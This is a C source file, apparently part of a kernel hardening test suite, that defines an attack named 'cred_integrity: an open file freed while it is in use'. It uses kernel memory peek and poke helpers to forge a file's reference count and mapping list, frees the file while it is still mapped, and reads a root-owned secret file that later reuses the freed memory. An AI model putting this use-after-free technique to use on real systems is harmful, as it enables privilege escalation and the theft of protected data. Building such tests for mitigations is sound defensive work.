// SPDX-License-Identifier: GPL-2.0-only
#include "freed_file.h"

ATTACK("cred_integrity", "file_freed_mapped",
       "cred_integrity: an open file freed while it is in use",
       "The program maps two parts of a file that has no name any more, closes it, has the list "
       "of its mappings say that there are none, writes down its count of references, and unmaps "
       "one part: file and inode are freed. Then it waits for root's program to make a file in "
       "that place.",
       "A file counts in sealed memory the mappings of it as well as the descriptors; with one "
       "left it is not freed.",
       "What the program has mapped is root's new file, and it reads it.");

#define FILES 30
#define ROUNDS 20 /* of root's, each with new files, once the attacker is through */

static volatile char *pages[FILES];

/* The first mapping alone is left out: the second finds its neighbours as it must, and goes. */
static void make_empty(uint64_t list, uint64_t last)
{
	poke(list, last);
	poke(last + 8, list);
}

/* Nothing of it is touched before root has used its place. */
static void make_dangling(unsigned int index)
{
	const long file = call3(__NR_open, (long)"/tmp/own", O_CREAT | O_RDWR, 0600);
	uint64_t references, mappings;
	long other;

	call1(__NR_unlink, (long)"/tmp/own");
	call2(__NR_ftruncate, file, 3 * PAGE);
	pages[index] = (volatile char *)call6(__NR_mmap, 0, PAGE, PROT_READ, MAP_SHARED, file, 0);
	other = call6(__NR_mmap, 0, PAGE, PROT_READ, MAP_SHARED, file, 2 * PAGE);
	references = file_state(own_task(), (int)file) + member("file_state.references");
	mappings = inode_of(file) + member("inode.cache") + member("page_cache.areas");
	call1(__NR_close, file);
	poke_references(references, 1);
	make_empty(mappings, peek(mappings + 8));
	call2(__NR_munmap, other, PAGE);
}

/* By a call, which a page that is not there does not end. */
static bool reads_secret(unsigned int index)
{
	char bytes[sizeof(SECRET) - 1] = { 0 };
	int ends[2];

	call2(__NR_pipe2, (long)ends, O_NONBLOCK);
	call3(__NR_write, ends[1], (long)pages[index], sizeof(bytes));
	call3(__NR_read, ends[0], (long)bytes, sizeof(bytes));
	call1(__NR_close, ends[0]);
	call1(__NR_close, ends[1]);
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

/* On the victim's processor: what is freed here is used again there. */
static bool fire(void)
{
	(void)own_cpu(0);
	meet_victim();
	for (unsigned int i = 0; i < FILES; i++)
		make_dangling(i);
	victim_go();
	await(progress[VICTIM_ROUNDS] == VICTIM_ENDED);
	for (unsigned int i = 0; i < FILES; i++) {
		if (reads_secret(i))
			return true;
	}
	return false;
}

static void victim(void)
{
	char name[32], start[] = "/secret_";

	(void)own_cpu(0);
	victim_awaits_attacker();
	for (unsigned int round = 0; round < ROUNDS; round++) {
		start[sizeof(start) - 2] = (char)('a' + round);
		for (unsigned int i = 0; i < FILES; i++)
			write_secret(numbered(name, start, i));
	}
}
